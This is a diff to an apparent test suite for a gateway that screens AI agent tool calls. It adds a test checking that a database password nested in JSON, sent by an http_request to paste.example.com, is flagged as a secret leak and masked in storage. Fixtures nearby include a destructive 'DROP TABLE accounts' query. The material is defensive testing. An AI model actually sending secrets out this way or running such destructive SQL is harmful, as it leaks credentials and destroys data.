@@ -71,6 +71,15 @@ describe('POST /api/v1/check', () => {
     expect((await to('https://collector.example/c')).body).toMatchObject({ decision: 'pending', policy_name: 'secret-leak' });
   });
 
+  it('masks a secret found only inside JSON text in the stored arguments', async () => {
+    const password = 'Zq8#vLp2!mWx7rT';
+    const res = await check({ agent_id: 'nested', tool_name: 'http_request', arguments: { method: 'POST', url: 'https://paste.example.com/api', body: JSON.stringify({ config: JSON.stringify({ db_password: password }) }) } });
+    expect(res.body.classification.signals).toEqual([expect.objectContaining({ id: 'secret_leak', path: '/arguments/body' })]);
+    const stored = await call(gw.url, 'GET', `/api/v1/check/${res.body.check_id}`, { key: org.adminKey });
+    expect(JSON.stringify(stored.body)).not.toContain(password);
+    expect(JSON.stringify(stored.body)).not.toContain('Zq8#vLp2');
+  });
+
   it('persists every check, readable at once by its org only', async () => {
     const res = await check({ agent_id: 'reader', tool_name: 'db_query', arguments: { sql: 'DROP TABLE accounts' }, context: { ticket: 'OPS-1' } });
     const id = res.body.check_id;
